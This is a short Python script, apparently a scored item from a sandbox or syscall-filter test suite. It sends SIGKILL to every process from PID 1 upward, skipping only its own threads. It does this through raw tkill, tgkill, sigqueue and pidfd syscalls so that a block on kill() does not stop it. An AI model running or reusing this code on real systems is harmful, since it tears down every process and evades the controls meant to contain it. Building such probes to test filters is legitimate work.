# Kills threads and processes by every system call that sends a signal, but kill().
# points: 40
# base: untrained
import ctypes
import os

TKILL, TGKILL, QUEUE, THREAD_QUEUE = {"x86_64": (200, 234, 129, 297), "aarch64": (130, 131, 138, 240)}[os.uname().machine]
PIDFD_OPEN, PIDFD_SIGNAL = 434, 424
KILL = 9
call = ctypes.CDLL(None).syscall
from_queue = ctypes.create_string_buffer(b"\0" * 8 + b"\xff\xff\xff\xff" + b"\0" * 116)
own = {int(thread) for thread in os.listdir("/proc/self/task")}
others = [pid for pid in range(1, os.getpid() + 1000) if pid not in own]
for pid in others:
    call(TKILL, pid, KILL)
    call(TGKILL, pid, pid, KILL)
    call(QUEUE, pid, KILL, from_queue)
    call(THREAD_QUEUE, pid, pid, KILL, from_queue)
    if (descriptor := call(PIDFD_OPEN, pid, 0)) >= 0:
        call(PIDFD_SIGNAL, descriptor, KILL, None, 0)
        os.close(descriptor)
